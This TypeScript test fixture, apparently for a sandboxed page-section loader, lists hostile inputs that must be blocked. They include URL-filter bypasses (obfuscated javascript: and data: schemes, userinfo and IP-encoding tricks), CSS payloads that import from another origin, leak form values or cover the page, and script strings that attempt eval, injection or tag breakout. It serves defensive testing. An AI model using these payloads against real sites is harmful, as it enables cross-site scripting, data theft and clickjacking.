import type { Places } from "./sectionOrigin.ts";

/** Sets a mark in the page; nothing may ever run it. */
const evil = "window.__evil='a payload ran'";

/** Addresses that must never become an element: none is a plain address of the allowed origin. */
export const badAddresses = ({ origin, other }: Places): Readonly<Record<string, string>> => {
  const { host, hostname, port } = new URL(origin);
  const otherHost = new URL(other).host;
  const at = (start: string) => `${start}/files/evil.js`;
  return {
    "another origin": at(other),
    "no scheme": at(`//${otherHost}`),
    "no scheme, own host": at(`//${host}`),
    javascript: `javascript:${evil}`,
    "javascript in capitals": `JaVaScRiPt:${evil}`,
    "javascript with a tab": `java\tscript:${evil}`,
    "javascript behind a space": ` javascript:${evil}`,
    "javascript behind a control": `\u0001javascript:${evil}`,
    vbscript: "vbscript:msgbox",
    data: `data:text/javascript,${evil}`,
    "data in base64": `data:text/javascript;base64,${Buffer.from(evil).toString("base64")}`,
    blob: `blob:${origin}/5f2a1c1e-0000-4000-8000-000000000000`,
    "blob of nobody": "blob:null/5f2a1c1e-0000-4000-8000-000000000000",
    filesystem: `filesystem:${origin}/temporary/evil.js`,
    "user name": at(`http://user@${host}`),
    "user name and password": at(`http://user:word@${host}`),
    "empty user name": at(`http://@${host}`),
    "allowed origin as user name": at(`${origin}@${otherHost}`),
    "backslash before a user name": at(`${origin}\\@${otherHost}`),
    "backslashes for slashes": `http:\\\\${otherHost}\\files\\evil.js`,
    "two backslashes": at(`\\\\${otherHost}`),
    "slash and backslash": at(`/\\${otherHost}`),
    "tab between slashes": at(`/\t/${otherHost}`),
    "line break in the scheme": at(`ht\ntp://${otherHost}`),
    "line break at the end": `${at(origin)}\n`,
    "allowed host as the beginning of another": at(`http://${hostname}.evil.example:${port}`),
    "allowed host as the end of another": at(`http://evil-${host}`),
    "another port": at(`http://${hostname}:1`),
    "port with a zero": at(`http://${hostname}:0${port}`),
    "port out of range": at(`http://${hostname}:65536`),
    "two ports": at(`http://${host}:80`),
    "host in capitals": at(origin.toUpperCase()),
    "host with a dot at its end": at(`http://${hostname}.:${port}`),
    "host with a circled sign": at(`http://\u2460${hostname.slice(1)}:${port}`),
    "host in percent signs": at(`http://%31${hostname.slice(1)}:${port}`),
    "host with a full-width dot": at(`http://${hostname.replace(".", "\uff0e")}:${port}`),
    "machine as one number": at(`http://2130706433:${port}`),
    "machine in octal": at(`http://0177.0.0.1:${port}`),
    "machine in hexadecimal": at(`http://0x7f.1:${port}`),
    "machine in version 6": at(`http://[::ffff:127.0.0.1]:${port}`),
    "one slash": `http:/${otherHost}/files/evil.js`,
    "https on the allowed host": at(`https://${host}`),
    ftp: "ftp://localhost/evil.js",
    socket: at(`ws://${host}`),
    file: "file:///etc/hostname",
    "about:blank": "about:blank",
    "the browser's own": "chrome://version/",
    "nothing but a scheme": "http://",
    empty: "",
    "too long": `${origin}/${"a".repeat(3000)}.js`,
  };
};

/** Styles that reach beyond the section; `files/` of the other origin must never be requested. */
export const badStyles = ({ other }: Places): Readonly<Record<string, string>> => {
  const url = `${other}/files/evil.css`;
  const cover = "position:fixed;inset:0;z-index:2147483647;background:rgb(9,8,7)";
  return {
    import: `@import url("${url}");`,
    "import without url": `@import "${url}";`,
    "import behind a comment": `/**/@import/**/url(${url});`,
    "import in escapes": `@\\69mport url("${url}");`,
    "charset and import": `@charset "utf-8"; @import "${url}";`,
    background: `.evil { background: url(${url}) }`,
    "background in escapes": `.evil { background: u\\72l(${url}) }`,
    "background of the page": `body { background: url(${url}) }`,
    "address in a variable": `.evil { --u: url(${url}); background: var(--u) }`,
    "image set": `.evil { background: image-set("${url}" 1x) }`,
    cursor: `.evil { cursor: url(${url}), auto }`,
    content: `.evil::before { content: url(${url}) }`,
    filter: `.evil { filter: url(${url}#f) }`,
    font: `@font-face { font-family: evil; src: url(${url}) } .evil { font-family: evil }`,
    "spying on fields": `input[value^="a"] { background: url(${url}?a) }`,
    cover: `.evil { ${cover} }`,
    "cover by the page": `html::after { content: ""; ${cover} }`,
    "cover by the root": `:root, body, #root { ${cover} }`,
    "cover by the scope": `:scope { ${cover} } & { ${cover} }`,
    "cover behind a brace": `} html::after { content: ""; ${cover} } .x {`,
    "cover in a group": `@media all { html::after { content: ""; ${cover} } }`,
    "cover in a layer": `@layer evil { html::after { content: "" !important; ${cover} } }`,
    "the coupon moved": "nav { transform: translateY(500px) !important } button { opacity: 0 }",
    "siblings of the root": `& + *, & ~ * { display: none !important }`,
    "animation of the page":
      "@keyframes evil { to { opacity: 0 } } body { animation: evil 1s forwards }",
    "property of the page":
      '@property --color-page { syntax: "*"; inherits: false; initial-value: red }',
    "end of the element": `</style><img src=x onerror="${evil}">`,
    "a comment without an end": `.a {} /* html::after { ${cover} }`,
    "a text without an end": `.a { content: " } html::after { ${cover} }`,
    "cover by margins": `:scope, .evil { margin: -3000px; padding: 6000px; background: red }`,
    "cover by transforms":
      ".evil { transform: translateY(-50vh) scale(90); scale: 9; translate: 50vw; zoom: 9; background: red }",
    "cover by a root that contains nothing": `:scope { contain: none !important; isolation: auto !important; ${cover} }`,
    "cover by the top layer": `.evil, .evil::backdrop { overlay: auto !important; display: block; ${cover} }`,
    namespace: `@namespace url(${url}); * { ${cover} }`,
  };
};

/** Harmful code to evaluate; the shell must continue, with a warning where it cannot run. */
export const badCodes: Readonly<Record<string, string>> = {
  throwing: 'throw new Error("thrown on purpose by code");',
  "throwing nothing": "throw null;",
  "throwing a liar": "throw { get message() { throw 1; }, toString() { throw 2; } };",
  "syntax error": "const = ;",
  "html for code": "<!doctype html><p>no code</p>",
  // An endless loop would block every page that runs it, whoever wrote it: three seconds take its place.
  endless: "{ const end = Date.now() + 3000; while (Date.now() < end); }",
  "endless recursion": "(function again() { again(); })();",
  "endless timers": "(function again() { setTimeout(again); })();",
  "rejected promise": "void Promise.reject(new Error('rejected on purpose by code'));",
  "eval in code": `try { eval("${evil}") } catch {} try { new Function("${evil}")() } catch {}`,
  "script by text": `const s = document.createElement("script"); try { s.textContent = "${evil}"; document.head.append(s) } catch {}`,
  "end of the element": `window.__text = "</script><img src=x onerror=\\"${evil}\\">";`,
};
